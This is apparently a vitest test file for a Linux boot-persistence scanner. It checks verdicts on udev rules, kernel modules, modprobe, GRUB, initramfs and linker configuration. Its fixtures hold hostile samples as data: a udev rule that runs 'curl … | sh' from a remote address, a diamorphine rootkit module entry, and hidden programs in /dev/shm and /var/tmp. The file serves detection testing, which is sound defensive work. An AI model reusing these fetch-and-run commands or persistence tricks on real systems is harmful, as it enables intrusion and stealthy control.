import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findingOf, scanTree } from '../tree.ts';
import { at, blameOf, codesOf, makeDebian, scanDebian, script } from './packaged.ts';

describe('udev rules', () => {
  it('blames a rule that starts an unowned program when /dev/random appears, and not one that names a disk', async () => {
    const outcome = await scanDebian(
      { '/usr/lib/udev/rules.d/60-stock.rules': 'SUBSYSTEM=="block", RUN+="/usr/lib/udev/stock"\n' },
      {
        '/etc/udev/rules.d/99-z.rules':
          '# disks\nACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", \\\n  RUN+="asedexpb run:+"\n',
        '/usr/lib/udev/asedexpb': script('sleep 1'),
        '/etc/udev/rules.d/70-disk.rules': 'KERNEL=="sd?", ATTRS{serial}=="A1", SYMLINK+="backup"\n',
        '/etc/udev/rules.d/80-led.rules': 'SUBSYSTEM=="usb", ACTION=="add", RUN+="/usr/local/bin/led on"\n',
      },
    );
    const bad = at(outcome, '/etc/udev/rules.d/99-z.rules');
    expect(bad).toMatchObject({
      verdict: 'malicious',
      attack: ['T1546.017'],
      places: [{ line: 2 }],
      subject: { kind: 'file', role: 'boot-file' },
    });
    expect(codesOf(bad)).toEqual(expect.arrayContaining(['pseudo-device', 'unowned-program', 'unowned']));
    expect(blameOf(outcome, '/etc/udev/rules.d/70-disk.rules')).toBe('not mentioned');
    expect(['unknown', 'benign']).toContain(blameOf(outcome, '/etc/udev/rules.d/80-led.rules'));
    expect(blameOf(outcome, '/usr/lib/udev/rules.d/60-stock.rules')).toBe('not mentioned');
  });

  it('blames a rule that has a shell fetch a program', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/run/udev/rules.d/1.rules':
          'SUBSYSTEM=="net", PROGRAM="/bin/sh -c \'curl -s http://203.0.113.4/x | sh\'"\n',
      },
    );
    expect(blameOf(outcome, '/run/udev/rules.d/1.rules')).toBe('malicious');
  });
});

describe('kernel modules', () => {
  const ko = { text: '\u0000module', mode: 0o644 };

  it('suspects a module that no package brought, blames a rootkit’s, and not those of the kernel or of DKMS', async () => {
    const root = '/lib/modules/6.1.0';
    const outcome = await scanDebian(
      { [`${root}/kernel/fs/ext4.ko`]: ko },
      {
        [`${root}/kernel/drivers/odd.ko`]: ko,
        [`${root}/kernel/net/diamorphine.ko.xz`]: ko,
        [`${root}/updates/dkms/zfs.ko`]: ko,
        '/var/lib/dkms/zfs/2.1/6.1.0/x86_64/module/zfs.ko': ko,
      },
    );
    expect(at(outcome, `${root}/kernel/drivers/odd.ko`)).toMatchObject({
      verdict: 'suspicious',
      attack: ['T1547.006', 'T1014'],
    });
    expect(blameOf(outcome, `${root}/kernel/net/diamorphine.ko.xz`)).toBe('malicious');
    expect(blameOf(outcome, `${root}/kernel/fs/ext4.ko`)).toBe('not mentioned');
    expect(blameOf(outcome, `${root}/updates/dkms/zfs.ko`)).toBe('benign');
  });

  it('says of a kernel that was built by hand that its modules were not judged', async () => {
    const modules = Array.from(
      { length: 60 },
      (_, at) => [`/lib/modules/6.1.0/kernel/m${at}.ko`, ko] as const,
    );
    const outcome = await scanDebian({ '/usr/bin/x': 'x' }, Object.fromEntries(modules));
    expect(outcome.findings.filter(({ title }) => title.endsWith('.ko'))).toEqual([]);
    expect(outcome.unknowns).toContainEqual(
      expect.objectContaining({ scope: 'boot', what: 'kernel-module' }),
    );
  });

  it('finds the line that loads a rootkit or has modprobe run a program, and no other', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/etc/modules': '# loaded at boot\nloop\ndiamorphine\n',
        '/etc/modules-load.d/net.conf': 'br_netfilter\n',
        '/etc/modprobe.d/block.conf': 'install usb-storage /bin/true\ninstall floppy /dev/shm/.x/go\n',
      },
    );
    const line = at(outcome, '/etc/modules');
    expect(line).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file-line', role: 'boot-line', line: { number: 3, text: 'diamorphine' } },
    });
    expect(blameOf(outcome, '/etc/modules-load.d/net.conf')).toBe('not mentioned');
    expect(at(outcome, '/etc/modprobe.d/block.conf')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file-line', role: 'boot-line', line: { number: 2 } },
    });
  });
});

describe('boot loader, first stage and linker', () => {
  it('finds another init in GRUB’s defaults, at its line, and not the ordinary parameters', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/etc/default/grub':
          'GRUB_TIMEOUT=5\n# init=/bin/sh is for rescue\nGRUB_CMDLINE_LINUX="quiet init=/var/tmp/.i/init"\n',
        '/etc/default/grub.d/50-cloud.cfg': 'GRUB_CMDLINE_LINUX="console=ttyS0 init=/lib/systemd/systemd"\n',
      },
    );
    const line = at(outcome, '/etc/default/grub');
    expect(line).toMatchObject({ attack: ['T1542'], subject: { kind: 'file-line', line: { number: 3 } } });
    expect(['suspicious', 'malicious']).toContain(line?.verdict);
    expect(blameOf(outcome, '/etc/default/grub.d/50-cloud.cfg')).toBe('not mentioned');
  });

  it('blames a hook of the first stage that puts a hidden program in, and not the one of a package', async () => {
    const outcome = await scanDebian(
      { '/usr/share/initramfs-tools/hooks/udev': script('copy_exec /sbin/udevd') },
      {
        '/etc/initramfs-tools/scripts/init-bottom/zz': script('/var/tmp/.sys/upd &'),
        '/etc/initramfs-tools/hooks/keys': script('copy_exec /usr/local/bin/unlock'),
        '/etc/initramfs-tools/scripts/init-bottom/ORDER': 'zz\n',
      },
    );
    expect(at(outcome, '/etc/initramfs-tools/scripts/init-bottom/zz')).toMatchObject({
      verdict: 'malicious',
    });
    expect(blameOf(outcome, '/etc/initramfs-tools/hooks/keys')).toBe('unknown');
    expect(blameOf(outcome, '/etc/initramfs-tools/scripts/init-bottom/ORDER')).toBe('not mentioned');
    expect(blameOf(outcome, '/usr/share/initramfs-tools/hooks/udev')).toBe('not mentioned');
  });

  it('blames a folder for temporary files among the linker’s, and not one of an application', async () => {
    const outcome = await scanDebian(
      { '/etc/ld.so.conf.d/libc.conf': '/usr/local/lib\n' },
      {
        '/etc/ld.so.conf.d/app.conf': '/opt/app/lib\n',
        '/etc/ld.so.conf.d/a.conf': '# libs\n/dev/shm/.lib\n',
        '/opt/app/lib/x': 'x',
      },
    );
    expect(at(outcome, '/etc/ld.so.conf.d/a.conf')).toMatchObject({
      verdict: 'malicious',
      attack: ['T1574.006'],
      places: [{ line: 2 }],
      subject: { kind: 'file', role: 'boot-file' },
    });
    expect(blameOf(outcome, '/etc/ld.so.conf.d/app.conf')).toBe('not mentioned');
  });
});

it('is not held up by FIFOs, circles of links, devices and names that are no text', async () => {
  const root = makeDebian(
    {},
    {
      '/etc/udev/rules.d/loop.rules': { link: 'loop.rules' },
      '/etc/rc2.d/S01loop': { link: '../rc2.d' },
      '/etc/modules': { link: '/dev/zero' },
      '/etc/init.d/.keep': '',
    },
  );
  execFileSync('mkfifo', [join(root, 'etc/udev/rules.d/a.rules'), join(root, 'etc/init.d/pipe')]);
  execFileSync('sh', ['-c', 'printf "#!/bin/sh\\n/dev/shm/.a/b\\n" > "$(printf "x\\n\\377\\033]0;y")"'], {
    cwd: join(root, 'etc/init.d'),
  });
  const outcome = await scanTree(root, { packageManager: 'apt' });
  expect(findingOf(outcome, '/etc/init.d/x\n')?.verdict).toBe('malicious');
  expect(outcome.unknowns.filter(({ scope }) => scope === 'boot')).toEqual([]);
});
